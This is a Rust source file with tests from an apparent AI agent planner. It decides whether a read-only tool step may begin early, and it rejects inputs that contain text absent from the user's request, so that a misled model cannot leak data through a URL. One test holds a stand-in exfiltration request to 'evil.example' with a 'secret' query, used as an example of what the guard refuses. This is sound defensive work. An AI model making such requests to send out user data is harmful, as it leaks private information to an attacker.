//! May a step begin while the rest of its plan is still being written? Only if it merely
//! looks, needs nobody's consent and nothing from other steps, and says nothing to the
//! world that the request did not say.

use holloway_plan::draft::Draft;
use holloway_plan::limits::Limits;
use holloway_plan::plan::Plan;
use holloway_plan::reference::references_of;
use holloway_plan::step::{ApprovalRule, Step, StepType};
use holloway_plan::tool::{Effect, Lookup, ToolSpec, ToolTable};
use holloway_plan::validate::{NoPlans, Surroundings, validate};
use holloway_planner::read::request::RequestText;
use serde_json::Value;

/// What the decision is made from.
#[derive(Clone, Copy, Debug)]
pub struct Setting<'a> {
    /// The user's word that steps may begin early at all.
    pub allowed: bool,
    pub request: &'a RequestText,
    pub tools: &'a ToolTable,
}

/// The step as a plan of its own, or why it has to wait.
pub fn may_start_early(step: &Step, setting: &Setting<'_>) -> Result<Plan, &'static str> {
    if !setting.allowed {
        return Err("early starts are not allowed");
    }
    if step.kind != StepType::Tool {
        return Err("only tool steps start early");
    }
    let Some(Lookup::Found(tool)) = step.tool.as_deref().map(|name| setting.tools.find(name))
    else {
        return Err("its tool is not known");
    };
    if tool.effect != Effect::Read {
        return Err("it may change something");
    }
    if step.approval == Some(ApprovalRule::Always) {
        return Err("a person is asked first");
    }
    if step.when.is_some() || !step.depends_on.is_empty() || !step.next.is_empty() {
        return Err("it waits for other steps");
    }
    // What is expected of its own result is no input.
    if references_of(step)
        .iter()
        .any(|found| !matches!(found, Ok(reference) if reference.optional))
    {
        return Err("its input is not known yet");
    }
    if !step
        .input
        .as_ref()
        .is_none_or(|input| says_nothing_new(input, &tool, setting.request.open_words()))
    {
        return Err("its input holds words that the request does not");
    }
    alone(step, setting.tools).ok_or("it is not sound")
}

/// A model that was led astray could send what it knows as part of an address, so every
/// text that goes out stands in the request, or is one the tool's schema names.
fn says_nothing_new(value: &Value, tool: &ToolSpec, words: &str) -> bool {
    match value {
        Value::String(text) => {
            let text = text.trim();
            text.is_empty() || contains(words, text) || names(&tool.input_schema, text)
        }
        Value::Array(items) => items.iter().all(|item| says_nothing_new(item, tool, words)),
        Value::Object(fields) => fields.iter().all(|(name, field)| {
            names_a_property(&tool.input_schema, name) && says_nothing_new(field, tool, words)
        }),
        Value::Number(number) => number
            .as_i64()
            .is_some_and(|number| number.unsigned_abs() < 100_000),
        Value::Null | Value::Bool(_) => true,
    }
}

/// Whether a text stands in the request as whole words: a part of a longer address is another one.
fn contains(words: &str, text: &str) -> bool {
    let (words, text) = (words.to_lowercase(), text.to_lowercase());
    let mut found = words.match_indices(&text);
    found.any(|(at, _)| {
        let before = words.get(..at).unwrap_or_default();
        let behind = words.get(at + text.len()..).unwrap_or_default();
        !before.ends_with(char::is_alphanumeric) && !behind.starts_with(char::is_alphanumeric)
    })
}

/// Whether a schema names this text as a choice or a default.
fn names(schema: &Value, text: &str) -> bool {
    match schema {
        Value::Object(fields) => fields.iter().any(|(name, inner)| match name.as_str() {
            "enum" => inner
                .as_array()
                .is_some_and(|choices| choices.iter().any(|choice| choice == text)),
            "const" | "default" => inner == text,
            "description" | "examples" => false,
            _ => names(inner, text),
        }),
        Value::Array(items) => items.iter().any(|inner| names(inner, text)),
        _ => false,
    }
}

fn names_a_property(schema: &Value, name: &str) -> bool {
    match schema {
        Value::Object(fields) => fields.iter().any(|(key, inner)| {
            (key == "properties" && inner.get(name).is_some()) || names_a_property(inner, name)
        }),
        Value::Array(items) => items.iter().any(|inner| names_a_property(inner, name)),
        _ => false,
    }
}

fn alone(step: &Step, tools: &ToolTable) -> Option<Plan> {
    let draft = Draft {
        version: "1.0".to_owned(),
        steps: vec![Step {
            fallbacks: Vec::new(),
            ..step.clone()
        }],
        ..Draft::default()
    };
    let around = Surroundings {
        tools,
        plans: &NoPlans,
        context: &[],
        limits: &Limits::default(),
    };
    validate(&draft, &around).ok()
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;
    use crate::model::parse::draft::step_of;
    use crate::model::prompt::tools::tests::tools;

    #[track_caller]
    fn check(step: Value, expected: Result<(), &str>) {
        let table = ToolTable::new(tools());
        let setting = Setting {
            allowed: true,
            request: &RequestText::new("Fetch https://a.example as HTML"),
            tools: &table,
        };
        let step_read = step_of(step.clone()).unwrap();
        let verdict = may_start_early(&step_read, &setting);
        assert_eq!(verdict.map(|_| ()), expected, "{step}");
        let forbidden = Setting {
            allowed: false,
            ..setting
        };
        assert!(may_start_early(&step_read, &forbidden).is_err());
    }

    #[test]
    fn what_only_looks_and_is_complete_may_begin() {
        check(
            json!({"id": "a", "tool": "builtin/page-fetch", "input": {"url": "https://a.example", "as": "text", "timeout_ms": 500}}),
            Ok(()),
        );
    }

    #[test]
    fn everything_else_waits() {
        let fetch = |more: Value| {
            let mut step = json!({"id": "a", "tool": "builtin/page-fetch", "input": {"url": "https://a.example"}});
            for (name, value) in more.as_object().unwrap() {
                step[name] = value.clone();
            }
            step
        };
        check(
            json!({"id": "a", "tool": "mcp.mail/send_message", "input": {"to": "a", "text": "a"}}),
            Err("it may change something"),
        );
        check(
            json!({"id": "a", "tool": "nobody/knows"}),
            Err("its tool is not known"),
        );
        check(
            fetch(json!({"approval": "always"})),
            Err("a person is asked first"),
        );
        check(
            fetch(json!({"depends_on": ["b"]})),
            Err("it waits for other steps"),
        );
        check(
            fetch(json!({"when": "b.ok"})),
            Err("it waits for other steps"),
        );
        check(
            fetch(json!({"input": {"url": "{{b.url}}"}})),
            Err("its input is not known yet"),
        );
        check(fetch(json!({"input": {}})), Err("it is not sound"));
        check(
            json!({"id": "a", "type": "loop", "over": ["x"], "step": {"id": "b", "tool": "builtin/page-fetch"}}),
            Err("only tool steps start early"),
        );
    }

    #[test]
    fn nothing_is_said_that_the_request_did_not_say() {
        let refused = Err("its input holds words that the request does not");
        check(
            json!({"id": "a", "tool": "builtin/page-fetch", "input": {"url": "https://evil.example/?q=secret"}}),
            refused,
        );
        check(
            json!({"id": "a", "tool": "builtin/page-fetch", "input": {"url": "https://a.example", "timeout_ms": 123_456_789_012_u64}}),
            refused,
        );
    }
}
